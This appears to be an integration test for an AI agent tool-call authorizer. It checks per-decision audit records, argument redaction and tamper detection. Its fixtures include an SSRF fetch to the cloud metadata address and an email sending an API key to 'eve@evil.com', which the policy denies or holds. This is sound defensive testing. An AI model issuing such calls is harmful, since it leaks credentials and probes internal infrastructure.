// The audit trail behind the real decision path: real policy.wasm (built by the opa CLI), the
// decision-table fixture policy, every tools/call decided through DecisionPath.gate as both
// front ends do. The file must hold exactly one verifying record per decision, in order, with
// arguments redacted; tampering must be found at the line it happened on.
import { execFile } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { pino } from 'pino';
import { Registry } from 'prom-client';
import { beforeAll, describe, expect, it } from 'vitest';
import { argumentsDigest } from '../../authorizer/src/approvals/request.ts';
import { AuditTrail, verifyAuditFile } from '../../authorizer/src/audit/index.ts';
import { ensurePolicyWasm } from '../../pkg/policy/engine/policy-wasm.ts';
import { compileVariant } from '../../pkg/policy/engine/testdata/cases.ts';
import { DecisionPath, type GateContext } from '../../authorizer/src/gate/decision-path.ts';
import { parseJsonRpc } from '../../authorizer/src/gate/jsonrpc.ts';
import { PolicyRouter } from '../../authorizer/src/gate/policy-router.ts';
import type { CallerIdentity } from '../../authorizer/src/gate/types.ts';

const log = pino({ level: 'silent' });
const scopes = ['norg:contacts:read', 'norg:messaging:write', 'norg:booking:write'];
const caller: CallerIdentity = { subject: 'alice', issuer: 'https://issuer.test', agent: 'agent-1', operator: 'alice', roles: [], scopes, tokenId: 'jti-7f3a' };
const ctx: GateContext = {
  caller,
  frontEnd: 'proxy',
  sessionId: 'session-1',
  resolveTool: (name) => {
    const i = name.indexOf('__');
    return i > 0 ? { server: name.slice(0, i), tool: name.slice(i + 2) } : { error: `tool "${name}" is not of the form <server>__<tool>` };
  },
};
const router = new PolicyRouter();
const password = 'correct-horse-battery-staple';

beforeAll(async () => {
  const data = compileVariant('base');
  await router.entry('ns/table').engine.load(readFileSync(ensurePolicyWasm()), data, 'rev-audit');
  router.update('ns/table', { gateway: data.toolgate.gateway, data });
});

const body = (id: number, method: string, params?: unknown) => JSON.stringify({ jsonrpc: '2.0', id, method, ...(params !== undefined ? { params } : {}) });
const lines = (file: string) => readFileSync(file, 'utf8').split('\n').slice(0, -1);

describe('audit trail over the real decision path', () => {
  it('writes one verifying, redacted record per tools/call decision and finds tampering at its line', async () => {
    const file = join(mkdtempSync(join(tmpdir(), 'toolgate-audit-it-')), 'pod-a', 'audit.jsonl');
    const registry = new Registry();
    const trail = await AuditTrail.open({ file, log, registry });
    const path = new DecisionPath({ router, log, onDecision: (r) => trail.record(r) });

    const readArgs = { id: '42', password };
    const messages = [
      body(1, 'initialize', {}), // session plumbing: no decision, no record
      body(2, 'tools/call', { name: 'gmail__read_email', arguments: readArgs }),
      body(3, 'tools/call', { name: 'fetch__fetch', arguments: { url: 'http://169.254.169.254/latest/' } }),
      body(4, 'tools/call', { name: 'gmail__send_email', arguments: { to: 'eve@evil.com', api_key: 'sk_live_abcdefghijklmnopqrstuvwx' } }),
      body(5, 'tools/call', { name: 'gmail__read_email', arguments: ['not', 'an', 'object'] }), // refused before any decision
      body(6, 'tools/list'),
      body(7, 'tools/call', { name: 'gmail__read_email', arguments: { id: '43' } }),
    ];
    const verdicts = messages.map((m) => path.gate(parseJsonRpc(m), ctx)).flatMap((r) => (r.verdict ? [r.verdict] : []));
    expect(verdicts.map((v) => v.effect)).toEqual(['proceed', 'deny', 'hold', 'proceed']);
    await trail.flush();

    const verified = await verifyAuditFile(file);
    expect(verified).toMatchObject({ ok: true, records: 4, head: { seq: 4 } });
    const recs = lines(file).slice(1).map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(recs.map((r) => r.decisionId)).toEqual(verdicts.map((v) => v.decisionId));
    expect(recs.map((r) => r.action)).toEqual(['allow', 'deny', 'require_approval', 'allow']);
    expect(recs[0]).toMatchObject({
      seq: 1, frontEnd: 'proxy', revision: 'rev-audit', server: 'gmail', tool: 'read_email', rule: 'Allow read-only', sessionId: 'session-1',
      caller: { agent: 'agent-1', operator: 'alice', subject: 'alice', issuer: 'https://issuer.test', roles: [] },
      arguments: { id: '42', password: '[REDACTED]' }, argumentsDigest: argumentsDigest(readArgs),
    });
    expect(recs[0]?.policy).toBe('agents/acme');
    expect(recs[1]).toMatchObject({ rule: 'Block SSRF to cloud metadata', tool: 'fetch' });
    expect(recs[2]).toMatchObject({ rule: 'Approve external communication', arguments: { to: 'eve@evil.com', api_key: '[REDACTED]' } });
    const text = readFileSync(file, 'utf8');
    for (const secret of [password, 'sk_live_abcdefghijklmnopqrstuvwx', 'jti-7f3a', 'norg:messaging:write']) expect(text).not.toContain(secret);
    expect((await registry.getSingleMetric('toolgate_authorizer_audit_records_total')?.get())?.values[0]?.value).toBe(4);

    // A restarted pod continues the same chain.
    await trail.close();
    const again = await AuditTrail.open({ file, log });
    const path2 = new DecisionPath({ router, log, onDecision: (r) => again.record(r) });
    path2.gate(parseJsonRpc(body(8, 'tools/call', { name: 'gmail__read_email', arguments: { id: '44' } })), ctx);
    await again.close();
    expect(await verifyAuditFile(file)).toMatchObject({ ok: true, records: 5, head: { seq: 5 } });

    // Someone turns the held send into an allowed one: found at line 4 (open line + 3rd record).
    const ls = lines(file);
    ls[3] = ls[3]!.replace('"action":"require_approval"', '"action":"allow"');
    writeFileSync(file, ls.map((l) => `${l}\n`).join(''));
    const tampered = await verifyAuditFile(file);
    expect(tampered).toMatchObject({ ok: false, line: 4 });
    const cli = await promisify(execFile)(process.execPath, ['authorizer/src/audit/verify.ts', file]).then(() => undefined, (err: { code: number; stderr: string }) => err);
    expect(cli?.code).toBe(1);
    expect(cli?.stderr).toMatch(/line 4: hash mismatch/);
    await expect(AuditTrail.open({ file: join(file, '..', 'other.jsonl'), log }).then((t) => t.close())).resolves.toBeUndefined();
  });
});
